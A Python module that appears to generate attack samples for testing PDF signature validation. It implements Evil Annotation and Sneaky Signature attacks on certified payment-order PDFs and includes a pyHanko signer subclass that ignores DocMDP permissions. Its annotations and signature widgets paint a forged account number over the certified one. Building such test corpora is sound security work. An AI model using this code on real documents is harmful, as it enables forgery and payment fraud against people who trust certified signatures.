"""Attacks on certified documents (S&P 2021): Evil Annotation (EAA), Sneaky Signature (SSA),
and plain DocMDP violations.

The victim certifies the payment order form (our signer, ``--certify 2`` or ``3``).  P2 allows
form filling and signing, P3 also annotations; the attacks make a permitted-looking change
whose appearance paints another account number over the certified one (the amount is in a form
field on these documents, and viewers draw widgets above other annotations).
"""

from __future__ import annotations

import io
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from . import bases as B
from .kit import Kit, add_annotation, overlay_appearance, overlay_ops, sample, update
from .legit import contract_sealed, form_signed


def _evil_annotation(
    subtype: str, extra: dict[str, generic.PdfObject] | None = None
) -> Callable[[IncrementalPdfFileWriter], None]:
    """An edit adding a ``subtype`` annotation that paints another account number."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        ap = overlay_appearance(w, B.ACCOUNT_BOX, B.FORGED_ACCOUNT)
        add_annotation(w, subtype, B.ACCOUNT_BOX, appearance=ap, extra=extra)

    return edit


FREETEXT = {
    "/Contents": pdf_string(B.FORGED_ACCOUNT),
    "/DA": pdf_string("/Helv 12 Tf 0 g"),
    "/BS": generic.DictionaryObject({pdf_name("/W"): generic.NumberObject(0)}),
}


@sample("eaa_p2_freetext")
def eaa_p2_freetext(kit: Kit) -> bytes:
    return update(form_signed(kit, 2), _evil_annotation("/FreeText", FREETEXT))


@sample("eaa_p2_stamp")
def eaa_p2_stamp(kit: Kit) -> bytes:
    return update(
        form_signed(kit, 2), _evil_annotation("/Stamp", {"/Name": pdf_name("/Approved")})
    )


@sample("eaa_p2_redact")
def eaa_p2_redact(kit: Kit) -> bytes:
    """A redaction annotation (not applied) whose appearance shows another account number."""
    extra = {
        "/OverlayText": pdf_string(B.FORGED_ACCOUNT),
        "/DA": pdf_string("/Helv 12 Tf 0 g"),
        "/IC": generic.ArrayObject([generic.FloatObject(1)] * 3),
    }
    return update(form_signed(kit, 2), _evil_annotation("/Redact", extra))


@sample("eaa_p3_freetext")
def eaa_p3_freetext(kit: Kit) -> bytes:
    """P3 permits annotations, so this change is allowed by the letter of the specification —
    but the free-text box paints another account number over the certified one."""
    return update(form_signed(kit, 3), _evil_annotation("/FreeText", FREETEXT))


def _overlay_style(text: str):  # type: ignore[no-untyped-def]
    """A pyHanko stamp style that draws exactly :func:`overlay_ops` over the account line."""
    from pyhanko.pdf_utils.content import PdfResources, RawContent, ResourceType
    from pyhanko.pdf_utils.layout import (
        AxisAlignment,
        BoxConstraints,
        InnerScaling,
        Margins,
        SimpleBoxLayoutRule,
    )
    from pyhanko.stamp import StaticStampStyle

    x0, y0, x1, y1 = B.ACCOUNT_BOX
    resources = PdfResources()
    resources[ResourceType.FONT][pdf_name("/Helv")] = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
        }
    )
    picture = RawContent(
        overlay_ops(B.ACCOUNT_BOX, text).encode(),
        resources=resources,
        box=BoxConstraints(x1 - x0, y1 - y0),
    )
    return StaticStampStyle(
        background=picture,
        border_width=0,
        background_opacity=1.0,
        background_layout=SimpleBoxLayoutRule(
            x_align=AxisAlignment.ALIGN_MIN,
            y_align=AxisAlignment.ALIGN_MIN,
            margins=Margins(),
            inner_content_scaling=InnerScaling.NO_SCALING,
        ),
    )


def _pyhanko_sign(
    kit: Kit,
    data: bytes,
    who: str,
    field: str,
    *,
    overlay: str | None = None,
    edit: Callable[[IncrementalPdfFileWriter], None] | None = None,
) -> bytes:
    """Sign with pyHanko directly, as an attacker's tool would: DocMDP permissions ignored,
    ``edit`` applied in the same revision, and with ``overlay`` a widget over the account line
    whose appearance is that text on opaque white."""
    from pyhanko.sign import fields, signers

    class IgnoringPermissions(signers.PdfSigner):
        def _enforce_certification_constraints(self, reader):  # type: ignore[no-untyped-def]
            return None

    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    if edit is not None:
        edit(w)
    meta = signers.PdfSignatureMetadata(
        field_name=field, md_algorithm="sha256", subfilter=fields.SigSeedSubFilter.PADES
    )
    style, spec = None, fields.SigFieldSpec(field)
    if overlay is not None:
        style = _overlay_style(overlay)
        x0, y0, x1, y1 = (int(v) for v in B.ACCOUNT_BOX)
        spec = fields.SigFieldSpec(field, on_page=0, box=(x0, y0, x1, y1))
    signer = IgnoringPermissions(
        meta, kit.pyhanko_signer(who), stamp_style=style, new_field_spec=spec
    )
    out = io.BytesIO()
    signer.sign_pdf(w, output=out)
    return out.getvalue()


@sample("eaa_p2_with_signature")
def eaa_p2_with_signature(kit: Kit) -> bytes:
    """The evil free-text annotation slipped into the same revision as a (permitted) approval
    signature by a trusted insider."""
    return _pyhanko_sign(
        kit,
        form_signed(kit, 2),
        "person-rsa",
        "Approval",
        edit=_evil_annotation("/FreeText", FREETEXT),
    )


@sample("ssa_p2_attacker")
def ssa_p2_attacker(kit: Kit) -> bytes:
    """Sneaky signature: a new signature field over the account number, signed with the attacker's own
    self-made certificate; its appearance is another account number on white."""
    return _pyhanko_sign(kit, form_signed(kit, 2), "attacker", "Approval", overlay=B.FORGED_ACCOUNT)


@sample("ssa_p2_insider")
def ssa_p2_insider(kit: Kit) -> bytes:
    """The same with a certificate the reviewer trusts (an insider): every signature is
    cryptographically good, P2 permits signing — only the picture is a lie."""
    return _pyhanko_sign(kit, form_signed(kit, 2), "person-rsa", "Approval", overlay=B.FORGED_ACCOUNT)


@sample("ssa_p2_empty_field")
def ssa_p2_empty_field(kit: Kit) -> bytes:
    """A new, unsigned signature field whose widget appearance paints another account number
    (viewers that honour /AP show it; MuPDF draws its own "sign here" marker instead)."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        ap = overlay_appearance(w, B.ACCOUNT_BOX, B.FORGED_ACCOUNT)
        ref = add_annotation(
            w,
            "/Widget",
            B.ACCOUNT_BOX,
            appearance=ap,
            extra={"/FT": pdf_name("/Sig"), "/T": pdf_string("Approval")},
        )
        form_ref = w.root.raw_get("/AcroForm")
        fields = w.root["/AcroForm"]["/Fields"]
        fields.append(ref)
        if isinstance(form_ref, generic.IndirectObject):
            w.mark_update(form_ref)
        else:
            w.update_root()

    return update(form_signed(kit, 2), edit)


@sample("mdp_p1_then_sign")
def mdp_p1_then_sign(kit: Kit) -> bytes:
    """A second signature on a document certified 'no changes allowed' (DocMDP P1)."""
    return _pyhanko_sign(kit, contract_sealed(kit, certify=1), "person-rsa", "BuyerSeal")


